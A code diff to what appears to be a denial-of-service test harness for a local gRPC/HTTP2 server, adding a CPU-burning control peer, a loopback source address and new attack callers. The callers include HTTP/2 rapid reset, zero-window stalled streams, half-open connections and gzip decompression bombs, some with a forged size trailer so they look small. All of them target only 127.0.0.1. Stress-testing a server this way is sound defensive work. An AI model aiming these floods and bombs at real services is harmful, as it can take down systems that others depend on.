@@ -1,5 +1,6 @@
 /** Callers that mean harm, or might as well. Each goes on until its process ends. */
 import { once } from "node:events";
+import { Agent, request } from "node:http";
 import { connect, type Socket } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
 import { gzipSync } from "node:zlib";
@@ -12,10 +13,24 @@ const identifyPath = `/${UserService.typeName}/${identify.name}`;
 const getUserPath = `/${UserService.typeName}/${getUser.name}`;
 /** As an operator's file descriptors allow it. */
 const crowd = 1_000;
+/** Not the one from which others come. */
+const localAddress = "127.0.0.66";
+const agent = new Agent({ keepAlive: true });
 const streamsPerConnection = 250;
 const initialWindowSize = 4;
 
+/** It keeps a core as busy as the others do, and leaves the server alone. */
+export const harmless = "none";
+
 export const peers = {
+  [harmless]: async () => {
+    for (;;) {
+      const end = performance.now() + 10;
+      while (performance.now() < end);
+      await new Promise(setImmediate);
+    }
+  },
+
   "rapid reset": (port) =>
     repeatedly(port, (socket, at) => {
       const stream = 2 * at + 1;
@@ -61,25 +76,19 @@ export const peers = {
         for (let next = stream; ; next += 2 * streamsPerConnection) {
           await write(socket, frame("headers", flags.endHeaders, next, grpcHeaders(getUserPath)));
           await write(socket, frame("data", flags.endStream, next, ask));
-          await pause(1_000);
+          await pause(10_000);
         }
       },
       settings({ [initialWindowSize]: 0 }),
     );
   },
 
-  "gzip bombs": async (port) => {
-    const bomb = gzipSync(Buffer.alloc(512 * 1024 * 1024), { level: 9 });
-    for (;;) {
-      await fetch(`http://127.0.0.1:${port}${identifyPath}`, {
-        method: "POST",
-        headers: { "content-type": "application/proto", "content-encoding": "gzip" },
-        body: bomb,
-      }).then(
-        (answer) => answer.arrayBuffer(),
-        () => pause(10),
-      );
-    }
+  "gzip bombs, 20 a second": (port) => bombs(port, gzipSync(Buffer.alloc(64 * 1024 * 1024))),
+
+  "gzip bombs that look small, 20 a second": (port) => {
+    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));
+    bomb.writeUInt32LE(1_000, bomb.length - 4);
+    return bombs(port, bomb);
   },
 
   "half-open connections": (port) =>
@@ -112,9 +121,32 @@ function dataFrame(stream: number, payload: Uint8Array): Buffer {
   return frame("data", 0, stream, payload);
 }
 
+async function bombs(port: number, bomb: Buffer): Promise<void> {
+  const headers = { "content-type": "application/proto", "content-encoding": "gzip" };
+  const one = async () => {
+    for (;;) {
+      await post(port, identifyPath, headers, bomb);
+      await pause(200);
+    }
+  };
+  await Promise.all([1, 2, 3, 4].map(one));
+}
+
+/** Resolves when it has been answered, or its connection is closed. */
+function post(port: number, path: string, headers: Readonly<Record<string, string>>, body: Buffer): Promise<void> {
+  return new Promise((resolve) => {
+    const call = request({ host: "127.0.0.1", port, path, method: "POST", headers, localAddress, agent });
+    call.on("response", (answer) => answer.resume().on("close", resolve)).on("error", () => setTimeout(resolve, 10));
+    call.end(body);
+  });
+}
+
 async function opened(port: number): Promise<Socket> {
-  const socket = connect({ host: "127.0.0.1", port, noDelay: true });
-  socket.on("error", () => {}).resume();
+  const socket = connect({ host: "127.0.0.1", port, localAddress, noDelay: true });
+  socket
+    .setMaxListeners(0)
+    .on("error", () => {})
+    .resume();
   await Promise.race([once(socket, "connect"), once(socket, "close")]);
   return socket;
 }
